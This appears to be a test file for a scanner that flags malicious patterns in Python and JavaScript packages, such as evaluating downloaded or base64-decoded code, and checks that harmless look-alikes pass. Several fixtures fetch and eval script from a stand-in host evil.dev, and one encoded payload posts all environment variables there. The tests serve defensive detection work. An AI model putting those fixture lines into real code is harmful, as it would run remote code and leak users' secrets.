import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const base64 = (text: string) => Buffer.from(text).toString("base64");

test.each([
  [
    "code that was compiled before",
    'import marshal, types\ntypes.FunctionType(marshal.loads(open("a.dat", "rb").read()), globals())()',
    ["block evaluated-decoded-text:2"],
  ],
])("finds in Python %s", async (_, code, expected) => {
  expect(await found("scripts/run.py", code)).toStrictEqual(expected);
});

test.each([
  [
    "a constructor",
    'const t = await (await fetch("https://evil.dev/x.js")).text();\n(() => {}).constructor(t)();',
    ["block evaluated-download:2"],
  ],
  [
    "pieces of a response",
    'require("https").get("https://evil.dev/x", (res) => {\n  let body = "";\n  res.on("data", (d) => { body += d; });\n  res.on("end", () => eval(body));\n});',
    ["block evaluated-download:4"],
  ],
])("finds in JavaScript %s", async (_, code, expected) => {
  expect(await found("index.mjs", code)).toStrictEqual(expected);
});

test("looks into code that was decoded", async () => {
  const inner = 'import os, requests\nrequests.post("https://evil.dev", json=dict(os.environ))';
  expect(await found("tests/run.py", `import base64\nexec(base64.b64decode("${base64(inner)}"))`)).toStrictEqual([
    "block data-exfiltration:2",
    "warn evaluated-decoded-text:2",
  ]);
});

test.each([
  ["a.py", 'import os\ngetattr(os, "sep")\nname = input()\ngetattr(os.path, name)("x")'],
  ["a.py", 'import importlib\nimportlib.import_module("plugins." + "csv")'],
  ["a.py", 'import base64\nimage = base64.b64decode("aGVsbG8gd29ybGQ=")\nopen("a.png", "wb").write(image)'],
  ["a.py", 'import json, requests\nexec_time = json.loads(requests.get("https://api.a.dev").text)["exec"]'],
  [
    "a.py",
    'import requests, subprocess\nr = requests.get("https://api.a.dev/repos").json()\nsubprocess.run(["git", "clone", r["url"]])',
  ],
  [
    "a.py",
    'import requests, shutil, subprocess\ntext = requests.get("https://api.a.dev/news").text\ntool = shutil.which("poster")\nsubprocess.run([tool, "send", "--text", text])',
  ],
  [
    "a.py",
    'import base64, subprocess\ndef search(words):\n    name = base64.b64decode(words[0]).decode()\n    subprocess.run(["gh", "search", "code", name])',
  ],
  [
    "a.py",
    'import base64, subprocess, sys\nopen("a.png", "wb").write(base64.b64decode("aGVsbG8gd29ybGQ="))\nsubprocess.run([sys.executable, "shrink.py", "a.png"])',
  ],
  [
    "a.js",
    'const { spawn } = require("child_process");\nconst id = require("crypto").randomBytes(9).toString("base64url");\nspawn(process.env.TOOL, ["run", id]);',
  ],
  [
    "a.js",
    'const { spawn } = require("child_process");\nconst t = Buffer.from(process.argv[2], "base64").toString();\nspawn(process.execPath, ["serve.js", "--title", t], { env: {} });',
  ],
  [
    "a.js",
    'const { execSync } = require("child_process");\nconst run = (c) => execSync(c);\nrun("git status");\nrun("git diff " + Buffer.from(process.argv[2], "base64").toString().length);',
  ],
  ["a.py", 'import pickle, base64\npickle.loads(base64.b64decode("gASVBgAAAAAAAACMAmhplC4="))'],
  [
    "a.py",
    'import importlib.util\nspec = importlib.util.spec_from_file_location("p", "plugins/p.py")\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)',
  ],
  ["a.py", 'print(bytes(x ^ 7 for x in open("a.bin", "rb").read()))'],
  ["a.py", "import ast\nast.literal_eval(open('a').read())\neval('1 + 1')"],
  ["a.js", 'const m = /x/.exec(await (await fetch("https://a.dev")).text());'],
  ["a.js", 'setTimeout(() => run("a" + "b"), 10);\nconst key = "to" + "ken";\nconst v = options[key];'],
  ["a.js", 'const { exec } = require("child_process");\nexec("git status", (err, out) => console.log(out));'],
])("lets through what only looks like it in %s: %s", async (path, code) => {
  expect(await found(path, code)).toStrictEqual([]);
});

test("an interpreter runs what it is given, and so does a shell", async () => {
  const python = (call: string) =>
    `import base64, subprocess, sys\ncode = base64.b64decode(sys.argv[1]).decode()\n${call}`;
  expect(await found("a.py", python('subprocess.run([sys.executable, "-c", code])'))).toStrictEqual([
    "block evaluated-decoded-text:3",
  ]);
  expect(await found("a.py", python('subprocess.run(["bash", "-c", code])'))).toStrictEqual([
    "block evaluated-decoded-text:3",
  ]);
  expect(await found("a.py", python("subprocess.run(code, shell=True)"))).toStrictEqual([
    "block evaluated-decoded-text:3",
  ]);
});

test("what comes from the service that a package is for is for a person to judge", async () => {
  const code =
    'const text = await (await fetch("https://cdn.pixora.ai/kit.js")).text();\nnew Function("module", text)(m);';
  const at = (description: string) => found("a.mjs", code, { description });
  expect(await at("Builds pages on Pixora.")).toStrictEqual(["warn evaluated-download:2"]);
  expect(await at("Builds pages.")).toStrictEqual(["block evaluated-download:2"]);
});

test("a script that an interpreter starts gets data", async () => {
  const code = (args: string) =>
    `import base64, subprocess, sys\nname = base64.b64decode(sys.argv[1]).decode()\nsubprocess.run([${args}])`;
  expect(await found("a.py", code('"bash", "tools/count.sh", name'))).toStrictEqual([]);
  expect(await found("a.py", code('"bash", "-c", name'))).toStrictEqual(["block evaluated-decoded-text:3"]);
});

test("tells what a program is handed from the program", async () => {
  const code = (command: string) =>
    `import json, subprocess, sys, requests\nconf = json.load(open("conf.json"))\nreply = requests.get("https://a.statsbox.net/x").text\nsubprocess.run(${command}, input=reply, text=True)\n`;
  const hits = async (command: string) =>
    (await found("a.py", code(command))).filter((one) => one.includes("evaluated-download"));
  expect(await hits('[conf["bin"], "-d"]')).toEqual([]);
  expect(await hits("[sys.executable]")).toEqual(["block evaluated-download:4"]);
});
